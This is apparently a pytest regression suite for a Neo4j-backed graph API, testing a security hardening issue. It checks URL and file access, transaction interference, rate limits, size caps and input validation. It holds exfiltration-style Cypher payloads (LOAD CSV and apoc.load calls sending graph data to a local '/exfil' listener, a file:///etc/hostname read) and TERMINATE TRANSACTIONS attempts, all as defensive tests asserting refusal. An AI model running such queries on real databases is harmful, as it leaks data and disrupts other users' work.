"""Issue 14, API side: analyst Cypher that cannot reach out or interfere, an API that one
token cannot starve, bounded inputs and outputs, a private Neo4j directory, a clear
error when Neo4j dies under a load. Real Neo4j, the real ASGI app; each test names its
case of the issue."""

from __future__ import annotations

import asyncio
import contextlib
import http.server
import logging
import os
import stat
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest
from bolt_proxy import BoltProxy
from graph_helpers import counts
from test_api import A, make_v1, record_stage_runs

from cxgraph.api import create_app
from cxgraph.api.auth import TokenStore
from cxgraph.api.params import ApiParams
from cxgraph.errors import CxgraphError
from cxgraph.graph import GraphStore
from cxgraph.graph.loader import load_snapshot
from cxgraph.neo4j_server import Connection
from cxgraph.workspace import Workspace

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "benchmarks"))
from bench_graph_load import generate  # noqa: E402

PARAMS = ApiParams(timeout_s=10.0, cypher_inflight_per_token=2, max_inflight_per_token=8,
                   rate_per_s=0, max_response_bytes=1 << 20, cypher_max_rows=10)
NEURON = f'{{ neuron(bodyId: "{A}") {{ bodyId type }} }}'


@pytest.fixture(scope="module")
def api(neo4j_connection, tmp_path_factory):
    store = GraphStore(neo4j_connection)
    store.clear()
    store.apply_schema()
    ws = Workspace.create(tmp_path_factory.mktemp("hardening_ws"))
    load_snapshot(store, make_v1(record_stage_runs(ws)))
    tokens = TokenStore.for_workspace(ws.root)
    toks = {name: tokens.create(name, role)[0] for name, role in
            [("alice", "read"), ("bob", "read"), ("writer", "write")]}
    app = create_app(ws, store=store, params=PARAMS)
    yield app, toks, store, ws
    app.close()
    store.close()


async def _send(app, requests: list[tuple[str, str, str, dict]]) -> list[httpx.Response]:
    """Requests (method, path, token, json) sent at once to the ASGI app."""
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url="http://cxgraph.test", timeout=60) as client:
        return await asyncio.gather(*[
            client.request(m, p, json=body, headers={"Authorization": f"Bearer {tok}"})
            for m, p, tok, body in requests])


def post(app, path: str, token: str, body: dict) -> httpx.Response:
    return asyncio.run(_send(app, [("POST", path, token, body)]))[0]


def cypher(api, query: str, token: str = "alice", **extra) -> httpx.Response:
    app, toks, *_ = api
    return post(app, "/cypher", toks[token], {"query": query, **extra})


class Listener:
    """A local HTTP server that records every request it receives (it must receive none)."""

    def __init__(self):
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"a,b\n1,2\n")

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


# --- exfiltration ------------------------------------------------------------------------
@pytest.mark.parametrize("template", [
    "LOAD CSV FROM 'http://127.0.0.1:{port}/exfil?d=' + apoc.text.join(['a', 'b'], '-') "
    "AS r RETURN r",
    "MATCH (n:Neuron) WITH collect(n.type) AS t "
    "LOAD CSV FROM 'http://127.0.0.1:{port}/exfil?d=' + apoc.text.join(t, '-') AS r RETURN r",
    "CALL {{ LOAD CSV WITH HEADERS FROM 'http://127.0.0.1:{port}/health' AS r RETURN r }} "
    "RETURN r",
    "CALL apoc.load.json('http://127.0.0.1:{port}/x') YIELD value RETURN value",
    "CALL apoc.load.csv('http://127.0.0.1:{port}/x') YIELD map RETURN map",
    "RETURN apoc.cypher.runFirstColumnSingle("
    "\"LOAD CSV FROM 'http://127.0.0.1:{port}/y' AS r RETURN r\", {{}}) AS x",
    "CALL apoc.cypher.run(\"LOAD CSV FROM 'http://127.0.0.1:{port}/z' AS r RETURN r\", {{}}) "
    "YIELD value RETURN value",
    "CALL apoc.import.json('http://127.0.0.1:{port}/import.json')",
], ids=["load-csv-exfil", "load-csv-graph-data", "load-csv-own-api", "apoc.load.json",
        "apoc.load.csv", "apoc.cypher function", "apoc.cypher.run", "apoc.import.json"])
def test_analyst_cypher_cannot_reach_out(api, template):
    """Issue 14, exfiltration: a read token's LOAD CSV / apoc.load reached a local listener
    (and the API's own /health). Now refused and the listener receives nothing."""
    listener = Listener()
    try:
        r = cypher(api, template.format(port=listener.port))
        time.sleep(0.3)
        assert listener.hits == []
        assert r.status_code in (400, 403), r.text
        assert r.json()["code"] in ("READ_ONLY", "CYPHER_ERROR")
    finally:
        listener.close()


@pytest.mark.parametrize("template", [
    "MATCH (n:Neuron) WITH collect(n.type) AS t "
    "LOAD CSV FROM 'http://127.0.0.1:{port}/exfil?d=' + apoc.text.join(t, '-') AS r RETURN r",
    "CALL apoc.load.json('http://127.0.0.1:{port}/x') YIELD value RETURN value",
    "CALL apoc.import.json('http://127.0.0.1:{port}/import.json')",
], ids=["load-csv-graph-data", "apoc.load.json", "apoc.import.json"])
def test_cxgraph_cypher_cannot_reach_out(api, monkeypatch, capsys, template):
    """Issue 14, exfiltration, the other analyst door: `cxgraph cypher` refuses the same
    queries with one `error:` line, and the listener receives nothing."""
    from test_bad_inputs import cli

    _, _, store, ws = api
    for key, value in (("NEO4J_URI", store.conn.uri), ("NEO4J_USER", store.conn.user),
                       ("NEO4J_PASSWORD", store.conn.password)):
        monkeypatch.setenv(key, value)
    listener = Listener()
    try:
        code, err = cli(["cypher", template.format(port=listener.port), "-w", ws.root], capsys)
        time.sleep(0.3)
        assert listener.hits == []
        assert code == 1 and err.startswith("error:") and "Traceback" not in err, err
    finally:
        listener.close()
    assert cli(["cypher", "MATCH (n:Neuron) RETURN count(n) AS n", "-w", ws.root,
                "-f", "json"], capsys)[0] == 0  # the door itself still opens


def test_managed_server_itself_refuses_urls_and_io_procedures(api, neo4j_server):
    """Issue 14: the managed Neo4j's own configuration closes the same doors (no file URLs,
    APOC load/import/export/cypher not loaded), even for a path that skips the plan check."""
    if neo4j_server is None:
        pytest.skip("an external Neo4j: its configuration is its owner's")
    _, _, store, _ = api
    for q in ["LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r",
              "CALL apoc.load.json('file:///etc/hostname') YIELD value RETURN value",
              "RETURN apoc.cypher.runFirstColumnSingle('RETURN 1', {}) AS x",
              "CALL apoc.export.csv.all('x.csv', {})"]:
        with pytest.raises(CxgraphError):
            store.read(q)
    assert store.read("RETURN apoc.text.join(['a', 'b'], '-') AS j").rows == [["a-b"]]


# --- interference --------------------------------------------------------------------------
@pytest.mark.parametrize("query", [
    "SHOW TRANSACTIONS", "SHOW TRANSACTIONS YIELD currentQuery, clientAddress",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "show   transactions",
    "SHOW SETTINGS", "CALL dbms.listConfig()"])
def test_analyst_cannot_see_or_end_other_transactions(api, query):
    """Issue 14, interference: SHOW TRANSACTIONS showed others' query text and client
    addresses; TERMINATE TRANSACTIONS killed an admin's query. Both are refused."""
    r = cypher(api, query)
    assert r.status_code == 403 and r.json()["code"] == "READ_ONLY", r.text


def test_terminate_from_analyst_leaves_running_work_alone(api):
    """Issue 14, interference: an analyst's TERMINATE TRANSACTIONS no longer ends another
    session's running query (it would kill a `cxgraph load`)."""
    _, _, store, _ = api
    done: list = []
    t = threading.Thread(target=lambda: done.append(
        store.read("CALL apoc.util.sleep(2500) RETURN 'admin-finished' AS x").rows))
    t.start()
    time.sleep(0.8)
    ids = store.read("SHOW TRANSACTIONS YIELD transactionId, currentQuery "
                     "WHERE currentQuery CONTAINS 'admin-finished' RETURN transactionId").rows
    assert ids
    r = cypher(api, "TERMINATE TRANSACTIONS $ids", params={"ids": [i[0] for i in ids]})
    assert r.status_code == 403
    t.join()
    assert done == [[["admin-finished"]]]


def test_terminated_victim_is_told_the_truth(api):
    """Issue 14: the victim of TERMINATE TRANSACTIONS was told "timed out after 10 s". Now
    its error says it was terminated, not timed out."""
    app, toks, store, _ = api

    def terminate_soon():
        time.sleep(1.0)
        ids = store.read("SHOW TRANSACTIONS YIELD transactionId, currentQuery "
                         "WHERE currentQuery CONTAINS 'victim' RETURN transactionId").rows
        store.read("TERMINATE TRANSACTIONS $ids", {"ids": [i[0] for i in ids]})

    t = threading.Thread(target=terminate_soon)
    t.start()
    r = cypher(api, "CALL apoc.util.sleep(6000) RETURN 'victim' AS v")
    t.join()
    body = r.json()
    assert r.status_code != 200 and body["code"] == "TERMINATED", body
    assert "terminated" in body["error"] and "timed out" not in body["error"]


def test_harmless_dbms_components_is_allowed(api):
    """Issue 14: the read path refused the harmless `CALL dbms.components()`."""
    r = cypher(api, "CALL dbms.components() YIELD name, edition RETURN name, edition")
    assert r.status_code == 200, r.text
    assert r.json()["data"][0][0] == "Neo4j Kernel"
    ok = cypher(api, "SHOW INDEXES YIELD name RETURN count(*) AS n")
    assert ok.status_code == 200 and ok.json()["data"][0][0] > 0


# --- limits on what one request may ask and return ----------------------------------------
@pytest.mark.parametrize("value", ["abc", -1, 0, True, [5], float("inf")])
def test_cypher_timeout_must_be_a_positive_number(api, value):
    """Issue 14, traceback: `timeoutS: "abc"` or `-1` gave HTTP 500. Now 400 BAD_INPUT."""
    app, toks, *_ = api
    body = {"query": "RETURN 1 AS one", "timeoutS": value}
    if value == float("inf"):
        r = asyncio.run(_send_raw(app, toks["alice"],
                                  b'{"query": "RETURN 1 AS one", "timeoutS": Infinity}'))
    else:
        r = post(app, "/cypher", toks["alice"], body)
    assert r.status_code == 400, r.text
    assert "timeoutS" in r.text and r.json()["errors"][0]["extensions"]["code"] == "BAD_INPUT"
    assert cypher(api, "RETURN 1 AS one", timeoutS=2).json()["data"] == [[1]]
    assert cypher(api, "RETURN 1 AS one", timeoutS="2.5").status_code == 200


async def _send_raw(app, token: str, body: bytes) -> httpx.Response:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url="http://cxgraph.test") as client:
        return await client.post("/cypher", content=body,
                                 headers={"Authorization": f"Bearer {token}"})


def test_response_size_cap(api):
    """Issue 14, starvation: `RETURN reduce(s='x', i IN range(1,28) | s+s)` returned 268 MB.
    Now a response over [api] max_response_bytes (1 MiB here) is refused with a clear error,
    and rows past cypher_max_rows are cut off with truncated: true."""
    r = cypher(api, "RETURN reduce(s = 'x', i IN range(1, 22) | s + s) AS big")
    assert r.status_code == 413, r.text[:300]
    body = r.json()
    assert body["code"] == "LIMIT_EXCEEDED" and "response-size limit" in body["error"]
    many = cypher(api, "UNWIND range(1, 50) AS i RETURN i").json()
    assert many["truncated"] is True and len(many["data"]) == 10


def test_several_operations_need_operation_name(api):
    """Issue 14: 100 named operations without operationName ran the first one; now an
    error. With operationName the named one runs."""
    app, toks, *_ = api
    doc = " ".join(f'query q{i} {{ neuron(bodyId: "{A}") {{ bodyId }} }}' for i in range(100))
    r = post(app, "/graphql", toks["alice"], {"query": doc})
    assert r.status_code == 400 and "operationName" in r.text, r.text[:300]
    two = f'query a {{ neuron(bodyId: "{A}") {{ bodyId }} }} query b {{ regions {{ name }} }}'
    ok = post(app, "/graphql", toks["alice"], {"query": two, "operationName": "b"}).json()
    assert "regions" in ok["data"] and "neuron" not in ok["data"]
    single = post(app, "/graphql", toks["alice"], {"query": NEURON}).json()
    assert single["data"]["neuron"]["bodyId"] == str(A)


def test_bad_requests_are_answered_not_logged_as_tracebacks(api, caplog):
    """Found by the fuzz of issue 14: every bad input or exceeded limit was logged by
    strawberry with a full traceback (110 KB in a few minutes of fuzzing, enough to fill an
    unread log pipe and stop the server). Now they are the client's answer only."""
    app, toks, *_ = api
    with caplog.at_level(logging.DEBUG):
        limit = post(app, "/graphql", toks["alice"],
                     {"query": "{ neurons(first: -1) { items { bodyId } } }"}).json()
        bad = post(app, "/graphql", toks["alice"], {"query": '{ versionAt(timestamp: "") }'})
    assert limit["errors"][0]["extensions"]["code"] == "LIMIT_EXCEEDED"
    assert bad.json()["errors"][0]["extensions"]["code"] == "BAD_INPUT"
    logged = [r.getMessage()[:200] for r in caplog.records if r.levelno >= logging.WARNING]
    assert logged == []


@pytest.mark.parametrize("value,message", [
    ("KC\x00", "U+0000"), ("x" * 500_000, "500000 characters"), ("a\nb", "U+000A")])
def test_annotation_values_are_bounded_and_validated(api, value, message):
    """Issue 14: annotateNeuron accepted NUL bytes and 500 KB strings (the latter came back
    as Neo4j's internal index error). Now BAD_INPUT naming the problem; valid text works."""
    app, toks, *_ = api
    q = "mutation($id: Id64!, $t: String) { annotateNeuron(bodyId: $id, type: $t) " \
        "{ ... on Neuron { bodyId type } ... on NotFound { message } } }"
    r = post(app, "/graphql", toks["writer"], {"query": q, "variables": {"id": str(A), "t": value}})
    err = r.json()["errors"][0]
    assert err["extensions"]["code"] == "BAD_INPUT" and message in err["message"], err
    assert "Neo" not in err["message"]
    good = post(app, "/graphql", toks["writer"],
                {"query": q, "variables": {"id": str(A), "t": "Kenyon cell γ-lobe"}}).json()
    assert good["data"]["annotateNeuron"]["type"] == "Kenyon cell γ-lobe"
    post(app, "/graphql", toks["writer"], {"query": q, "variables": {"id": str(A), "t": "KC"}})


# --- starvation ----------------------------------------------------------------------------
def test_one_token_cannot_starve_graphql(api):
    """Issue 14, starvation: 16 concurrent `CALL apoc.util.sleep(9000)` from one token made a
    trivial `neuron` query take 8 s. Now that token gets at most cypher_inflight_per_token
    running (the rest: 429 with Retry-After) on the Cypher pool, and GraphQL answers fast."""
    app, toks, *_ = api

    async def scenario():
        slow = [("POST", "/cypher", toks["alice"], {"query": "CALL apoc.util.sleep(3000)"})
                for _ in range(16)]
        hog = asyncio.ensure_future(_send(app, slow))
        await asyncio.sleep(0.5)
        t0 = time.perf_counter()
        quick = await _send(app, [("POST", "/graphql", toks["bob"], {"query": NEURON})])
        dt = time.perf_counter() - t0
        return await hog, quick[0], dt

    slow, quick, dt = asyncio.run(scenario())
    assert quick.status_code == 200 and quick.json()["data"]["neuron"]["bodyId"] == str(A)
    assert dt < 1.5, f"a trivial GraphQL query took {dt:.2f} s while one token ran sleeps"
    codes = sorted(r.status_code for r in slow)
    assert codes.count(200) == 2 and codes.count(429) == 14, codes
    limited = next(r for r in slow if r.status_code == 429)
    assert limited.headers["retry-after"] and \
        limited.json()["errors"][0]["extensions"]["limit"] == "cypher_inflight_per_token"


def test_analyst_cypher_of_all_tokens_shares_a_bounded_pool(api):
    """Issue 14, starvation (a share of capacity for GraphQL reads): however many tokens send
    Cypher, at most [api] cypher_db_threads analyst queries run in Neo4j at once (the rest
    wait their turn, then answer), and GraphQL reads answer meanwhile."""
    app, toks, store, ws = api
    tokens = TokenStore.for_workspace(ws.root)
    analysts = [tokens.create(f"pool{k}", "read")[0] for k in range(3)]
    marker = f"pool-{time.monotonic_ns()}"
    query = {"query": "CALL apoc.util.sleep(1500) RETURN $m AS m", "params": {"m": marker}}
    running: list[int] = []

    def watch(stop: threading.Event) -> None:
        while not stop.is_set():
            rows = store.read("SHOW TRANSACTIONS YIELD currentQuery, parameters "
                              "WHERE parameters.m = $marker AND NOT currentQuery STARTS "
                              "WITH 'EXPLAIN' RETURN count(*)", {"marker": marker}).rows
            running.append(rows[0][0])
            time.sleep(0.1)

    async def scenario():
        slow = asyncio.ensure_future(_send(app, [("POST", "/cypher", t, query)
                                                 for t in analysts for _ in range(2)]))
        while not slow.done() and max(running, default=0) == 0:
            await asyncio.sleep(0.05)
        t0 = time.perf_counter()
        quick = await _send(app, [("POST", "/graphql", toks["bob"], {"query": NEURON})])
        dt = time.perf_counter() - t0
        return await slow, quick[0], dt

    stop = threading.Event()
    watcher = threading.Thread(target=watch, args=(stop,))
    watcher.start()
    try:
        slow, quick, dt = asyncio.run(scenario())
    finally:
        stop.set()
        watcher.join()
    assert [r.status_code for r in slow] == [200] * 6, [r.text[:200] for r in slow]
    assert all(r.json()["data"] == [[marker]] for r in slow)
    assert max(running) == app.params.cypher_db_threads == 2, running
    assert quick.status_code == 200 and dt < 1.5, f"GraphQL took {dt:.2f} s"


def test_a_killed_analyst_worker_is_a_clear_error_and_replaced(api):
    """A worker process that dies under a query (killed, out of memory) is a 503 naming
    what happened, not a traceback, and the next query gets new workers."""
    app, *_ = api
    assert cypher(api, "RETURN 1 AS one").status_code == 200  # the workers are running

    async def scenario():
        slow = asyncio.ensure_future(asyncio.to_thread(
            cypher, api, "CALL apoc.util.sleep(3000) RETURN 1 AS one"))
        await asyncio.sleep(1.0)
        for pid in app.graph.analysts.pids():
            with contextlib.suppress(ProcessLookupError):  # ended on its own meanwhile
                os.kill(pid, 9)
        return await slow

    r = asyncio.run(scenario())
    assert r.status_code == 503 and r.json()["code"] == "UNAVAILABLE", r.text
    assert "worker running this query stopped" in r.json()["error"]
    again = cypher(api, "RETURN 2 AS two")
    assert again.status_code == 200 and again.json()["data"] == [[2]], again.text


def test_a_worker_killed_while_idle_costs_no_query(api):
    """A worker that died between queries never took the next one: that query goes to a
    fresh worker and succeeds (it failed with a 503 on a loaded CI machine when it found
    the dead worker before the OS had reaped it)."""
    app, *_ = api
    assert cypher(api, "RETURN 1 AS one").status_code == 200
    before = app.graph.analysts.pids()
    for pid in before:
        with contextlib.suppress(ProcessLookupError):  # ended on its own meanwhile
            os.kill(pid, 9)
    for i in range(3):
        r = cypher(api, f"RETURN {i} AS i")
        assert r.status_code == 200 and r.json()["data"] == [[i]], r.text
    assert not set(before) & set(app.graph.analysts.pids())


def test_analyst_workers_run_below_the_api_cpu_priority(api):
    """Starvation: the analyst workers run `[api] cypher_worker_nice` below the API process,
    so a token's large results or CPU-heavy decoding yield the cores to GraphQL reads."""
    app, *_ = api
    assert cypher(api, "RETURN 1 AS one").status_code == 200
    own = os.getpriority(os.PRIO_PROCESS, 0)
    want = min(19, own + app.graph.params.cypher_worker_nice)
    pids = app.graph.analysts.pids()
    assert pids and all(os.getpriority(os.PRIO_PROCESS, p) == want for p in pids)


def test_per_token_rate_limit(api):
    """Issue 14: per-token rate limit (token bucket): past the burst, 429 naming the limit;
    another token is unaffected."""
    app0, toks, store, ws = api
    app = create_app(ws, store=store, params=ApiParams(rate_per_s=1.0, rate_burst=3))
    try:
        rs = asyncio.run(_send(app, [("POST", "/graphql", toks["alice"], {"query": NEURON})
                                     for _ in range(5)]))
        codes = [r.status_code for r in rs]
        assert codes.count(200) == 3 and codes.count(429) == 2, codes
        e = next(r for r in rs if r.status_code == 429).json()["errors"][0]
        assert e["extensions"]["limit"] == "rate_per_s" and "requests/s" in e["message"]
        assert post(app, "/graphql", toks["bob"], {"query": NEURON}).status_code == 200
    finally:
        app.graph.close()


# --- the managed server's files --------------------------------------------------------------
def test_neo4j_directory_is_private(neo4j_server):
    """Issue 14: neo4j/data/dbms/auth.ini was mode 0644. The whole managed neo4j/ directory
    is now owner-only (dirs 0700, files 0600)."""
    if neo4j_server is None:
        pytest.skip("an external Neo4j: no managed directory")
    root = neo4j_server.dir
    assert (root / "data" / "dbms" / "auth.ini").exists()
    loose = []
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            if not p.is_symlink() and stat.S_IMODE(p.stat().st_mode) & 0o077:
                loose.append(f"{p.relative_to(root)} {oct(stat.S_IMODE(p.stat().st_mode))}")
    assert stat.S_IMODE(root.stat().st_mode) == 0o700
    assert loose == []


# --- Neo4j dies under a load -----------------------------------------------------------------
def test_neo4j_killed_during_load_is_a_clear_error_and_reload_is_exact(neo4j_connection):
    """Issue 14, traceback: Neo4j killed during `load` gave a raw ServiceUnavailable after
    ~60 s of retries. Now a GraphUnavailable (one `error:` line) saying what to do, within
    the retry budget; loading again afterwards gives exactly the clean graph (0 duplicates)."""
    snap = generate(200, 3000)
    proxy = BoltProxy(neo4j_connection.uri)
    conn = Connection(f"bolt://127.0.0.1:{proxy.port}", neo4j_connection.user,
                      neo4j_connection.password)
    direct = GraphStore(neo4j_connection, batch_size=200)
    direct.clear()
    direct.apply_schema()
    store = GraphStore(conn, batch_size=200, retry_s=3.0)
    proxy.cut_after = proxy.sent + 150_000  # a few batches into the load
    t0 = time.perf_counter()
    with pytest.raises(CxgraphError) as e:
        load_snapshot(store, snap)
    assert time.perf_counter() - t0 < 30
    assert "stopped answering" in str(e.value) and "re-run" in str(e.value)
    store.close()
    load_snapshot(direct, snap)
    after_crash = counts(direct)
    direct.clear()
    load_snapshot(direct, snap)
    assert counts(direct) == after_crash  # the same graph as a clean load: nothing twice
    direct.close()
